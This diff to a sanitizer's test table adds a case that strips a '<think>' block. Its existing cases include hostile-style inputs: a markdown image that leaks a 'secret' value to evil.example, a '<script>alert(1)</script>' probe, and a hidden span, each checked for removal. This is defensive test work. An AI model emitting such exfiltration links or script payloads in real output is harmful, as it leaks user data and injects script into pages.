@@ -45,6 +45,7 @@ def texts(*deltas: str) -> list[str]:
         ("Look ![x](https://evil.example/leak?q=secret) here.", ["Look here."]),
         ("A <b>bold</b> word.<!-- hidden --> More <script>alert(1)</script>text.", ["A bold word.", "More text."]),
         ('Seen. <span style="display:none">Unseen. Quite.</span>Seen again.', ["Seen.", "Seen again."]),
+        ("<think>They met. Did they?</think>\n\nNATO met.", ["NATO met."]),
         ("If x < 5 then y > 3. Fine.", ["If x < 5 then y > 3.", "Fine."]),
         ("[1]: https://evil.example\nText stays.", ["Text stays."]),
     ],
